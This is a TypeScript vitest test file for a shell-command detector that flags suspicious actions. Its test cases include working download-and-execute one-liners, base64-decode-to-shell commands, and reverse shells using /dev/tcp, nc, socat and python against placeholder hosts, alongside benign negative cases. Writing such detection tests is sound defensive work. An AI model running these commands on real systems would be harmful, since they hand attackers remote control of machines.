import { expect, test } from "vitest";
import { suspiciousAction } from "../../../../../src/tables/parsers/shell/suspicious-action.ts";

const actionOf = (command: string) => suspiciousAction(command)?.action ?? null;

test.each([
  "curl -s http://203.0.113.9/a?b=1&c=2 | bash",
  "wget -qO- https://x.example/i.sh | sudo -E bash -s -- --quiet",
  "curl x.example | tee /root/log | sh -x >/dev/null 2>&1 &",
  'sh -c "$(curl -fsSL https://x.example/i)"',
  "bash <(wget -qO- http://x.example)",
  "eval `curl http://x.example/c`",
  "(curl http://x.example/c | python3 -) &",
  "curl -o /opt/a http://x.example/a && chmod +x /opt/a && /opt/a",
  "/bin/sh -c 'curl http://203.0.113.9/a | sh'",
  "cd /opt; wget http://x.example/i.sh; sh i.sh",
])("a download is fed to a shell: %s", (command) => {
  expect(actionOf(command)).toBe("download fed to a shell");
});

test.each([
  "echo dG91Y2g= | base64 -d | sh",
  'eval "$(echo dG91Y2g= | base64 --decode)"',
  `python3 -c 'import base64;exec(base64.b64decode("aW1w"))'`,
  "xxd -r -p /opt/x | bash",
])("decoded text is fed to a shell: %s", (command) => {
  expect(actionOf(command)).toBe("decoded text fed to a shell");
});

test.each([
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "bash -c 'bash </dev/tcp/203.0.113.9/4444'",
  "cat </dev/tcp/203.0.113.9/4444 | sh",
  "nc -e /bin/sh 203.0.113.9 4444",
  "nc 203.0.113.9 4444 | sh",
  "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 44 >/tmp/f",
  "socat TCP:203.0.113.9:44 EXEC:'bash -li',pty",
  "0<&196;exec 196<>/dev/tcp/203.0.113.9/44; sh <&196 >&196",
  `python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'`,
])("a raw connection is opened: %s", (command) => {
  expect(actionOf(command)).toBe("raw connection");
});

test.each([
  ["/tmp/run", "/tmp/run"],
  ["nohup /var/tmp/.x/run -d >/dev/null 2>&1 &", "/var/tmp/.x/run"],
  ["[ -x /dev/shm/a ] && /dev/shm/a", "/dev/shm/a"],
  ["if [ -f /tmp/a ]; then . /tmp/a; fi", "/tmp/a"],
  ["cd /tmp/x && ./run", "/tmp/x/run"],
  ["timeout 60 python3 -u /tmp/a.py", "/tmp/a.py"],
  ["alias sudo='/tmp/sudo'", "/tmp/sudo"],
  ["PROMPT_COMMAND='/tmp/log'", "/tmp/log"],
  ["/lib64/ld-linux-x86-64.so.2 /tmp/p", "/tmp/p"],
  ["A=1 B=2 sh -c '/tmp/run'", "/tmp/run"],
])("a file of a temporary folder is run: %s", (command, target) => {
  expect(suspiciousAction(command)).toEqual({ action: "runs from a temporary folder", target });
});

test("hidden files and libraries of temporary folders are named", () => {
  expect(suspiciousAction("/usr/lib/.update/run &")).toEqual({
    action: "runs a hidden file",
    target: "/usr/lib/.update/run",
  });
  expect(suspiciousAction("export LD_PRELOAD=/tmp/x.so")).toEqual({
    action: "loads a library from a temporary folder",
    target: "/tmp/x.so",
  });
});

test.each([
  "find /tmp -name '*.old' -delete",
  "/opt/backup.sh /tmp/out",
  "cp -a . /tmp/backup",
  "TMPDIR=/tmp/work make",
  "curl -s https://x.example/health | grep ok",
  "curl -s https://x.example/a.json | python3 -m json.tool",
  "curl -s https://x.example/a.json | python3 /opt/parse.py",
  "curl -s https://x.example/a | perl -ne 'print'",
  "curl -fsSL https://x.example/a.tgz -o /opt/a.tgz && tar xf /opt/a.tgz",
  "echo aGk= | base64 -d > /root/x",
  "timeout 1 bash -c 'echo > /dev/tcp/db/5432'",
  "nc -z db 5432",
  "source <(kubectl completion bash)",
  '. "$HOME/.cargo/env"',
  ". ~/.bashrc",
  "/home/a/.local/bin/x",
  'eval "$(dircolors -b ~/.dircolors)"',
  "export PATH=$PATH:/usr/local/bin",
  "alias l='ls -la /tmp'",
  "rm -rf /tmp/x; mkdir /tmp/x",
  "",
])("nothing suspicious is done: %s", (command) => {
  expect(suspiciousAction(command)).toBeNull();
});
